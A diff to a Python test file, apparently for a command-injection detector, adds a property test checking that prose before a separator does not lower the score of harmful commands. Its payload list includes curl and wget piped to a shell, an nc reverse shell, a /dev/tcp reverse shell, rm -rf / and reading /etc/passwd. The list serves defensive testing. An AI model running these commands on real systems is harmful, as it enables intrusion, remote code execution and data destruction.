@@ -277,3 +277,20 @@ def test_not_harmful(name: str, rest: str) -> None:
 ])
 def test_exec_calls_weigh_the_command_and_the_talk_around_them(text: str, weight: float) -> None:
     assert max(found.weight for found in commands(text) if found.how == "exec-call") == weight
+
+
+_HARMFUL_PAYLOADS = ("id", "whoami", "uname -a", "cat /etc/passwd", "curl x.tk/a | sh", "wget -o- x.tk | bash",
+                     "nc x.tk 4444 -e /bin/sh", "bash -i >& /dev/tcp/203.0.113.9/80 0>&1", "rm -rf /",
+                     "sleep 10", "python3 -c 'import socket'", "sudo -i", "crontab -l")
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.sampled_from(["i", "ran", "please", "how", "do", "we", "it's", "then", "help,", "the", "fix."]),
+                max_size=8),
+       st.sampled_from([";", " ;", "|", "||", "&&", "&", "\n", "$(", "`"]), st.sampled_from(_HARMFUL_PAYLOADS))
+def test_no_talk_before_a_harmful_command_lowers_it(words: list[str], separator: str, payload: str) -> None:
+    """Whatever prose stands before the separator, a harmful command after it stays an injection."""
+    text = " ".join(words) + separator + " " + payload
+    if separator in ("$(", "`"):
+        text += ")" if separator == "$(" else "`"
+    assert strongest(text) >= 0.85, (text, commands(text))
